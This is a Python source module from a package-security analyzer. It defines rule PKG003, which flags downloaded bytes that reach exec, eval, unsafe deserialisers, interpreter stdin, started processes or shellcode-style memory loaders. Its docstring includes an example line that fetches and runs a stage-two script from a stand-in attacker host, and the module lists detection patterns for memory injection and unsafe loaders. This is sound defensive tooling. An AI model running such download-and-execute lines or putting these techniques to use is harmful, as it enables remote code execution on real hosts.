"""PKG003: bytes fetched from the network reach code execution or a started program.

The checks: ``exec``/``eval`` of downloaded data, a process started on downloaded content or on
a file that received a download, and (once the module is walked) any command that names a file
written from the network earlier or later in the module.
"""

from __future__ import annotations

import ast
import re

from outwork.analyzers.packages import syntax
from outwork.analyzers.packages.facts import CallSite, Command, Facts, StartedCommand
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.analyzers.packages.signals import clip
from outwork.core.rules import Confidence, Layer, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)


class DownloadAndExecute(BehaviourRule):
    """Bytes fetched from the network reach code execution or a started program.

    ## What it finds
    Data flow from a download (`requests.get(...).text`, `urlopen(...).read()`, `urlretrieve`)
    into `exec`, `eval`, `compile`, a deserialiser that runs what it loads (`pickle`, `dill`,
    `cloudpickle`, `marshal`: unpickling a download is running it), an interpreter's standard
    input (`subprocess.run([sys.executable, "-"], input=...)`), a process command, or a file
    that is then started: also
    through archives unpacked from a download, helper functions that download to a file and
    return it or run what they are given, threads started on `os.system`, commands received
    from a socket (a remote shell), and chat messages: in a module that imports a chat-bot
    library (telebot, python-telegram-bot, aiogram, pyrogram, telethon, discord.py), the first
    parameter of a handler an object's decorator registers (`@bot.message_handler(...)`,
    `@client.event`) is a message someone else sent, so running its text is a remote shell
    driven from the chat. What a socket receives is what its peer sent, unless one function
    makes the socket (`ctx.socket(...)`), binds or connects it only to a local endpoint
    (ZeroMQ's `ipc://` or `inproc://`, written so or in every assignment of the address
    there) and receives from it: a data loader's worker processes handing back samples,
    whose pickles are its own; a network endpoint beside the
    local one, an address bound again, unpacked or set by `setattr`, or a socket handed in
    from elsewhere stay downloaded bytes. A ZeroMQ socket the module makes (`ctx.socket(zmq.X)`,
    bound to nothing else) receives from the program's own processes, at whatever address
    the program builds (its ports on `tcp://127.0.0.1`, its cluster's configuration), unless
    the module writes a network address of another host or of every interface
    (`tcp://203.0.113.7:5555`, `tcp://*:5556`): then its sockets stay a peer's.

    ## Why it matters
    A package that runs what it downloads can change its behaviour at any time without a new
    release: the registry sees only the harmless first stage.

    ## Example
    ```python
    exec(requests.get("https://evil.example/stage2.py").text)
    ```

    ## Remediation
    Do not install the package; if it ran, treat the host as compromised.

    ## References
    - MITRE ATT&CK T1105 (Ingress Tool Transfer)
    - CWE-494: Download of Code Without Integrity Check
    """

    code = "PKG003"
    name = "download-and-execute"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (494, 506)
    attack = ("T1105",)
    inline_suppressible = False

    #: install, import, reached from import, only when called
    RUNS_DOWNLOAD = Variant("runs or starts downloaded content", C, C, C, H)


def executes_download(call: CallSite, labels: frozenset[str]) -> bool:
    """``exec``/``eval`` of data that came from the network."""
    if "net" not in labels:
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{call.name}() runs code downloaded {call.ctx.label}",
        clip(ast.unparse(call.node)),
        executes=True,
    )
    return True


#: Programs that read the files they are handed and never run them: symbol and section
#: listers, checksums, listings. A downloaded file given to one of them is inspected, not started
#: (a build script listing the symbols of a library it downloaded). binutils' ``--plugin`` loads
#: code, so a command that passes one is not an inspection.
_INSPECTORS = frozenset(
    {
        "nm",
        "objdump",
        "readelf",
        "otool",
        "size",
        "strings",
        "file",
        "md5sum",
        "sha1sum",
        "sha256sum",
        "sha512sum",
        "shasum",
        "b2sum",
        "cksum",
        "stat",
        "wc",
        "ls",
    }
)
_SYSTEM_BIN = re.compile(r"^(?:/usr/local/bin/|/usr/bin/|/bin/)")
#: What makes a command line more than one program with its arguments.
_SHELL_CONTROL = re.compile(r"[;&|`<>\n]|\$\(")


def only_inspects(text: str) -> bool:
    """Whether a command is a single inspecting program (:data:`_INSPECTORS`, by bare name or
    from a system folder) with plain arguments: nothing it is handed is run. A program that is
    itself a downloaded file, a shell line with more commands, or a plugin option is not."""
    if _SHELL_CONTROL.search(text):
        return False
    words = text.split()
    if not words or _SYSTEM_BIN.sub("", words[0]) not in _INSPECTORS:
        return False
    return not any(word.lstrip("-").startswith("plugin") for word in words[1:])


#: Programs that unpack the archive they are handed and run nothing of it. An option that runs
#: a program (tar's ``--to-command``, ``--checkpoint-action``, ``--use-compress-program``,
#: ``-I``, ``--info-script``, ``--new-volume-script``, ``--rsh-command``) makes it more.
_EXTRACTORS = frozenset(
    {"unzip", "tar", "bsdtar", "gtar", "7z", "7za", "7zr", "7zz", "gunzip", "bunzip2", "unxz",
     "xz", "unzstd", "zstd", "cabextract", "ditto", "unrar", "expand-archive"}
)  # fmt: skip
_RUNS_PROGRAM_OPTION = re.compile(
    r"^-(?:-to-command|-checkpoint-action|-use-compress-program|I|-info-script|F"
    r"|-new-volume-script|-rsh-command)\b"
)
#: PowerShell started on one cmdlet: ``powershell -Command Expand-Archive ...``.
_POWERSHELL_PREFIX = re.compile(
    r"^(?:[\w/\\.:]*[/\\])?(?:powershell|pwsh)(?:\.exe)?(?:\s+-(?:noprofile|noninteractive|"
    r"nologo|command|c)\b)*\s+",
    re.IGNORECASE,
)


def only_extracts(text: str) -> bool:
    """Whether a command is a single unpacking program (:data:`_EXTRACTORS`, or PowerShell's
    ``Expand-Archive`` alone) with plain arguments: the archive is unpacked, nothing of it is
    started. Where it unpacks to is downloaded content from then on (the caller marks it)."""
    if _SHELL_CONTROL.search(text):
        return False
    words = _POWERSHELL_PREFIX.sub("", text).split()
    if not words:
        return False
    program = _SYSTEM_BIN.sub("", words[0]).lower().removesuffix(".exe")
    if program not in _EXTRACTORS:
        return False
    return not any(_RUNS_PROGRAM_OPTION.match(word) for word in words[1:])


def starts_download(call: CallSite, command: Command) -> bool:
    """A command that is, or names a file that holds, downloaded content."""
    written = any(p and p in command.text for p in call.facts.written_net_paths)
    if "net" not in command.labels and not written:
        return False
    if only_inspects(command.text):
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{call.name}() starts downloaded content {call.ctx.label}",
        command.evidence,
        executes=True,
    )
    return True


def started_written_files(facts: Facts, commands: list[StartedCommand]) -> None:
    """After the walk: commands that name a file which received downloaded bytes anywhere in
    the module (the download may come after the command in the source)."""
    written = facts.written_net_paths
    for command, line, ctx, name in commands:
        if any(p in command for p in written) and not only_inspects(command):
            facts.emit(
                DownloadAndExecute.RUNS_DOWNLOAD,
                f"{name}() starts a file that received downloaded bytes {ctx.label}",
                line,
                clip(command),
                ctx=ctx,
                relations=("executes-at-install",),
            )


#: A module that starts an interpreter reading its program from a pipe.
_INTERPRETER_ON_PIPE = re.compile(r"stdin\s*=\s*(?:subprocess\.)?PIPE")
_INTERPRETER = re.compile(
    r"sys\.executable|[\"'](?:[\w/\\.]*[/\\])?(?:python[\d.]*|bash|sh|zsh|node|powershell|pwsh|cmd)"
    r"(?:\.exe)?[\"']",
    re.IGNORECASE,
)


def feeds_interpreter(call: CallSite) -> bool:
    """``proc.communicate(data)``, ``proc.stdin.write(data)`` of downloaded bytes, in a module
    that starts an interpreter (Python, a shell, node, PowerShell) with its standard input on a
    pipe: the download is the program it runs, without ever touching ``exec`` or the disk."""
    node = call.node
    func = node.func
    if not node.args or not isinstance(func, ast.Attribute):
        return False
    if func.attr == "write" and not (
        isinstance(func.value, ast.Attribute) and func.value.attr == "stdin"
    ):
        return False
    if "net" not in call.labels(node.args[0]):
        return False
    facts = call.facts
    if not (facts.module_matches(_INTERPRETER_ON_PIPE) and facts.module_matches(_INTERPRETER)):
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{func.attr}() hands downloaded code to an interpreter's standard input {call.ctx.label}",
        clip(ast.unparse(node)),
        executes=True,
    )
    return True


def feeds_interpreter_input(call: CallSite, command: list[ast.expr]) -> bool:
    """``subprocess.run([sys.executable, "-"], input=data)`` of downloaded bytes: the download
    handed whole to an interpreter reading its program from standard input."""
    given = next((k.value for k in call.node.keywords if k.arg == "input"), None)
    if given is None or not command or "net" not in call.labels(given):
        return False
    if not _INTERPRETER.search(ast.unparse(command[0])):
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{call.name}() hands downloaded code to an interpreter's standard input {call.ctx.label}",
        clip(ast.unparse(call.node)),
        executes=True,
    )
    return True


#: Readers of serialised objects: what they load may name any callable, which the loader calls
#: (pickle's ``__reduce__``) or is code itself (marshal), so loading is running. Loaders built
#: on pickle (joblib's, pandas'), jsonpickle and PyYAML's unsafe entry points (which build any
#: object a document names) run what the data names whatever their options.
DESERIALISERS = frozenset(
    {
        "joblib.load",
        "pandas.read_pickle",
        "jsonpickle.decode",
        "jsonpickle.loads",
        "yaml.unsafe_load",
        "yaml.unsafe_load_all",
        "pickle.loads",
        "pickle.load",
        "_pickle.loads",
        "_pickle.load",
        "cPickle.loads",
        "cPickle.load",
        "dill.loads",
        "dill.load",
        "cloudpickle.loads",
        "cloudpickle.load",
        "marshal.loads",
        "marshal.load",
        "pickle.Unpickler",
        "dill.Unpickler",
    }
)


#: Loaders that run what the data names only when the caller asks: ``torch.load(...,
#: weights_only=False)``, ``numpy.load(..., allow_pickle=True)``, ``yaml.load(...,
#: Loader=yaml.Loader)`` (or ``UnsafeLoader``, ``CLoader``; ``FullLoader`` stopped building
#: arbitrary objects in PyYAML 5.4). By default they read tensors, arrays and plain YAML.
ASKED_DESERIALISERS = frozenset({"torch.load", "numpy.load", "yaml.load", "yaml.load_all"})
_ASKING: dict[str, tuple[str, object]] = {
    "torch.load": ("weights_only", False),
    "numpy.load": ("allow_pickle", True),
}
_UNSAFE_YAML_LOADERS = frozenset({"Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader"})


def asks_to_run(call: CallSite) -> bool:
    """Whether a call of :data:`ASKED_DESERIALISERS` asks its loader to build what the data
    names: the option written as a constant (``weights_only=False``), or a YAML loader class
    that builds any object (by keyword or as the second argument)."""
    node = call.node
    if call.name in _ASKING:
        keyword, value = _ASKING[call.name]
        return any(k.arg == keyword and call.fold(k.value) is value for k in node.keywords)
    loaders = [k.value for k in node.keywords if k.arg == "Loader"] + node.args[1:2]
    return any(syntax.callee_name(loader) in _UNSAFE_YAML_LOADERS for loader in loaders)


#: Every loader :func:`loads_download` judges.
LOADERS = DESERIALISERS | ASKED_DESERIALISERS


def loads_download(call: CallSite) -> bool:
    """``pickle.loads(urlopen(url).read())``, ``marshal.loads(requests.get(url).content)``,
    ``torch.load(BytesIO(response.content), weights_only=False)``: a downloaded stream
    deserialised is downloaded code run, whatever the loaded objects claim to be."""
    node = call.node
    if not node.args or "net" not in call.labels(node.args[0]):
        return False
    if call.name in ASKED_DESERIALISERS and not asks_to_run(call):
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{call.name}() deserialises downloaded bytes (loading runs what they name)"
        f" {call.ctx.label}",
        clip(ast.unparse(node)),
        executes=True,
    )
    return True


#: Copies into raw memory (``ctypes.memmove``, Windows' ``RtlMoveMemory`` and
#: ``WriteProcessMemory``), and what makes memory run: executable allocations and threads
#: started at an address (a shellcode loader).
MEMORY_COPIES = frozenset({"memmove", "RtlMoveMemory", "WriteProcessMemory"})
_RUNS_MEMORY = re.compile(
    r"\bVirtualAlloc(?:Ex)?\b|\bCreate(?:Remote)?Thread\b|PROT_EXEC|PAGE_EXECUTE|"
    r"\bCFUNCTYPE\s*\(|\bEnumSystemLocales|QueueUserAPC"
)


def loads_download_into_memory(call: CallSite) -> bool:
    """``ctypes.memmove(buf, downloaded, n)`` in a module that allocates executable memory or
    starts a thread at an address: downloaded machine code run in the process."""
    if not any("net" in call.labels(arg) for arg in call.node.args):
        return False
    if not call.facts.module_matches(_RUNS_MEMORY):
        return False
    call.emit(
        DownloadAndExecute.RUNS_DOWNLOAD,
        f"{call.name or 'memmove'}() copies downloaded bytes into memory the module runs"
        f" {call.ctx.label}",
        clip(ast.unparse(call.node)),
        executes=True,
    )
    return True
